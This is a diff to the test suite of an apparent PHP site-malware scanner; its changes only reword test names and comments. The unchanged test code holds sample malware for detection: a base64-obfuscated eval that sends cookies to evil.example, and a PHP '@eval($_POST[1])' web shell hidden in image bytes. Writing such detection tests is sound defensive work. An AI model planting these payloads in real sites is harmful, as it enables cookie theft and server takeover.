@@ -9,7 +9,7 @@ import { ORDINARY, refusal, SHELL, SITE_CHECK, siteOf, standIn } from '../suppor
 const MIB = 2 ** 20;
 const to = (bytes: number, text: string) => text.repeat(Math.ceil(bytes / text.length));
 const FUNCTION = 'function shop_title( $id ) { return esc_html( get_the_title( (int) $id ) ); }\n';
-/** Lines that an odd number of quotes stands in, as anybody writes them. */
+/** Ordinary lines with an odd number of quotes. */
 const PROSE = "It isn't code that stands here, but what somebody wrote of it.\n";
 
 describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_CHECK.unlessThere}`, () => {
@@ -20,7 +20,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     key = (await service.issue('--plan', 'pro')).key;
   });
 
-  test('a shell is found wherever it stands in what pads it, by the line where it stands', async () => {
+  test('a shell is found anywhere in its padding, with its line', async () => {
     const padded = {
       'after-code.php': `<?php\n${to(1.1 * MIB, FUNCTION)}${SHELL}\n`,
       'after-comment.php': `<?php /*\n${PROSE}${to(1.1 * MIB, PROSE)}*/ ${SHELL}`,
@@ -46,7 +46,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     expect(lines.find((each) => each.includes('after-code'))).toEndWith(`, line ${line}`);
   }, 60_000);
 
-  test('a script is found in what is no UTF-8, though that takes more room in a request', async () => {
+  test('a script is found in invalid UTF-8, although that needs more space in a request', async () => {
     const malware = `\neval(atob("${btoa('document.location="http://evil.example/"+document.cookie')}"));`;
     const site = siteOf({
       'binary.js': Buffer.from(to(700_000, '/* \xe9\xf8\xfc */\n') + malware, 'latin1'),
@@ -56,7 +56,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     expect(told).toMatchObject({ checked: 2, findings: 2, unchecked: 0, complete: true });
   });
 
-  test.each(['utf16le', 'utf16be'] as const)('what has a mark of %s is read as that', async (encoding) => {
+  test.each(['utf16le', 'utf16be'] as const)('a file with the BOM of %s is decoded', async (encoding) => {
     const encoded = (text: string) => {
       const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
       return encoding === 'utf16le' ? bytes : bytes.swap16();
@@ -92,7 +92,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     await seen.end();
   });
 
-  test('parts are cut between characters, share 8 KiB, and together are the file', async () => {
+  test('parts are split between characters, overlap by 8 KiB, and together are the file', async () => {
     const seen = standIn(() => undefined);
     const lines = Array.from({ length: 60_000 }, (_, at) => `// ${at} ä€😀 ${'ü'.repeat(at % 40)}`).join(
       '\n',
@@ -115,7 +115,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     await seen.end();
   });
 
-  test('what is over 16 MiB is unchecked if it is code or holds any, and is not read again', async () => {
+  test('a file over 16 MiB is unchecked if it is or contains code, and is not read again', async () => {
     const large = Buffer.alloc(17 * MIB);
     const site = siteOf({
       'film.mp4': large,
@@ -136,7 +136,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     expect(again.lines).toEqual(first.lines);
   });
 
-  test('a file that takes longer than a run has is gone on with in the next, in little memory', async () => {
+  test('a file that takes longer than a run is continued in the next, with little memory', async () => {
     const numbered = Array.from({ length: 65_000 }, (_, at) => FUNCTION.replace('title', `title_${at}`)).join(
       '',
     );
@@ -160,7 +160,7 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     await slow.end();
   });
 
-  test('a file that changes while it is sent is unchecked until the next time', async () => {
+  test('a file that changes while it is sent is unchecked until the next run', async () => {
     const site = siteOf({ 'a.php': `<?php\n${to(3 * MIB, FUNCTION)}` });
     const changing = standIn((_, times) => {
       if (times === 1)
@@ -179,9 +179,9 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
 });
 
 describe.skipIf(!SITE_CHECK.isThere)(
-  `which files the site check in PHP sends${SITE_CHECK.unlessThere}`,
+  `files that the site check in PHP sends${SITE_CHECK.unlessThere}`,
   () => {
-    test('what a server or a browser runs by its ending, and of all others what holds PHP', async () => {
+    test('files that a server or a browser runs by extension, and others that contain PHP', async () => {
       const seen = standIn(() => undefined);
       const sent =
         'php php7 phtml phar inc module install theme tpl js mjs html htm svg jsp jspx asp aspx ashx asmx cfm cfml cgi pl py rb ps1 sh';
@@ -200,7 +200,7 @@ describe.skipIf(!SITE_CHECK.isThere)(
       await seen.end();
     });
 
-    test('PHP in pictures, whatever bytes stand around it, and no picture for what chance makes', async () => {
+    test('PHP in pictures, between any bytes, and no picture with random bytes that resemble it', async () => {
       const seen = standIn(() => undefined);
       const code = {
         comment: '<?php /*\xe9*/ @eval($_POST[1]);',
